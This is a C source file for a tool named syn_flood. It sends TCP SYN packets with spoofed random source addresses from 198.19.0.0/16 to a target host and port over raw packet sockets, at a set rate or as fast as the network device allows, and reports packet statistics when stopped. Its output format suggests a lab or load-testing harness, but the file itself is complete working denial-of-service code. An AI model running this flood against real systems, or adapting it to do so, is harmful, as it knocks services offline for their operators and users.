/* Sends SYNs from addresses that nobody has, until SIGTERM, then says how many.
 *
 *   syn_flood DEVICE ETHERNET_ADDRESS ADDRESS PORT RATE      RATE: SYNs per second; 0: as many as the device takes
 *
 * Sources are random in 198.19.0.0/16; ports and sequence numbers are random too, options are those of a Linux SYN. Prints `ready`, and at the end one
 * JSON object. Needs a route of the attacked host back to 198.19.0.0/16, or it will not answer. */
#define _GNU_SOURCE /* sendmmsg */
#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BURST = 32, IP_BYTES = 20, TCP_BYTES = 40, FRAME_BYTES = 14 + IP_BYTES + TCP_BYTES };

struct frame {
    struct ether_header eth;
    uint8_t version_ihl, tos;
    uint16_t bytes, id, fragment;
    uint8_t ttl, protocol;
    uint16_t ip_cksum;
    uint32_t src, dst;
    uint16_t sport, dport;
    uint32_t seq, ack;
    uint8_t offset, flags;
    uint16_t window, tcp_cksum, urgent;
    uint8_t mss[4], sack_permitted[2], timestamps[10], nop, scale[3];
} __attribute__((packed));

_Static_assert(sizeof(struct frame) == FRAME_BYTES, "a SYN with a Linux client's options");

static const struct frame model = {.eth.ether_type = 0x0008,
                                   .version_ihl = 0x45,
                                   .bytes = (IP_BYTES + TCP_BYTES) << 8,
                                   .fragment = 0x0040,
                                   .ttl = 64,
                                   .protocol = 6,
                                   .offset = TCP_BYTES / 4 << 4,
                                   .flags = 2,
                                   .window = 0xf0fa,
                                   .mss = {2, 4, 5, 180},
                                   .sack_permitted = {4, 2},
                                   .timestamps = {8, 10},
                                   .nop = 1,
                                   .scale = {3, 3, 7}};

static volatile sig_atomic_t stop;
static uint64_t random_state;

static void on_signal(int signo) { stop = signo; }

/* xorshift: many and different, nothing more. */
static uint64_t draw(void)
{
    random_state ^= random_state << 13;
    random_state ^= random_state >> 7;
    return random_state ^= random_state << 17;
}

static uint64_t now_ns(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * 1000000000 + (uint64_t)t.tv_nsec;
}

static uint16_t cksum(const void *at, uint32_t bytes, uint32_t sum)
{
    const uint8_t *p = at;
    uint16_t word;

    for (uint32_t i = 0; i < bytes; i += 2) {
        memcpy(&word, p + i, 2);
        sum += word;
    }
    sum = (sum & 0xffff) + (sum >> 16);
    sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

static void fill(struct frame *f)
{
    uint64_t a = draw(), b = draw();
    uint32_t tsval = (uint32_t)(b >> 32), pseudo;

    f->src = htonl(0xc6130000 | (uint32_t)(a & 0xffff));
    f->sport = (uint16_t)((a >> 16) | 4);
    f->seq = (uint32_t)b;
    f->id = (uint16_t)(a >> 32);
    memcpy(f->timestamps + 2, &tsval, 4);
    f->ip_cksum = f->tcp_cksum = 0;
    f->ip_cksum = cksum(&f->version_ihl, IP_BYTES, 0);
    pseudo = (f->src & 0xffff) + (f->src >> 16) + (f->dst & 0xffff) + (f->dst >> 16) + htons(6) + htons(TCP_BYTES);
    f->tcp_cksum = cksum(&f->sport, TCP_BYTES, pseudo);
}

static int open_device(const char *name, struct ether_addr *own)
{
    int fd = socket(AF_PACKET, SOCK_RAW, 0), yes = 1;
    struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(name)};
    socklen_t n = sizeof at;

    if (fd < 0 || !at.sll_ifindex || bind(fd, (struct sockaddr *)&at, sizeof at) ||
        setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &yes, sizeof yes) ||
        getsockname(fd, (struct sockaddr *)&at, &n))
        return -1;
    memcpy(own, at.sll_addr, sizeof *own);
    return fd;
}

/* Sends in bursts; a burst waits for its time. */
static void flood(int fd, struct frame frames[BURST], uint64_t rate)
{
    struct iovec parts[BURST];
    struct mmsghdr messages[BURST] = {{{0}}};
    uint64_t begun = now_ns(), sent = 0, refused = 0, seconds_ns;

    for (int i = 0; i < BURST; i++) {
        parts[i] = (struct iovec){&frames[i], sizeof frames[i]};
        messages[i].msg_hdr = (struct msghdr){.msg_iov = &parts[i], .msg_iovlen = 1};
    }
    while (!stop) {
        uint64_t due = rate ? begun + sent * 1000000000 / rate : 0, now = now_ns();
        int n;

        if (due > now) {
            nanosleep(&(struct timespec){.tv_nsec = (long)(due - now < 999999999 ? due - now : 999999999)}, NULL);
            continue;
        }
        for (int i = 0; i < BURST; i++)
            fill(&frames[i]);
        n = sendmmsg(fd, messages, BURST, 0);
        sent += n > 0 ? (uint64_t)n : 0;
        refused += n < 0;
    }
    seconds_ns = now_ns() - begun;
    printf("{\"sent\": %" PRIu64 ", \"refused\": %" PRIu64 ", \"seconds\": %.3f, \"per_second\": %.0f}\n", sent,
           refused, (double)seconds_ns / 1e9, (double)sent * 1e9 / (double)seconds_ns);
}

int main(int argc, char **argv)
{
    static struct frame frames[BURST];
    struct ether_addr own, *to = argc == 6 ? ether_aton(argv[2]) : NULL;
    struct in_addr dst;
    int fd;

    if (!to || !inet_aton(argv[3], &dst) || (fd = open_device(argv[1], &own)) < 0) {
        fprintf(stderr, "syn_flood: DEVICE ETHERNET_ADDRESS ADDRESS PORT RATE: %s\n", strerror(errno));
        return 1;
    }
    random_state = now_ns() | 1;
    for (int i = 0; i < BURST; i++) {
        frames[i] = model;
        memcpy(frames[i].eth.ether_dhost, to, sizeof *to);
        memcpy(frames[i].eth.ether_shost, &own, sizeof own);
        frames[i].dst = dst.s_addr;
        frames[i].dport = htons((uint16_t)strtoul(argv[4], NULL, 10));
    }
    signal(SIGTERM, on_signal);
    signal(SIGINT, on_signal);
    puts("ready");
    fflush(stdout);
    flood(fd, frames, strtoull(argv[5], NULL, 10));
    return 0;
}
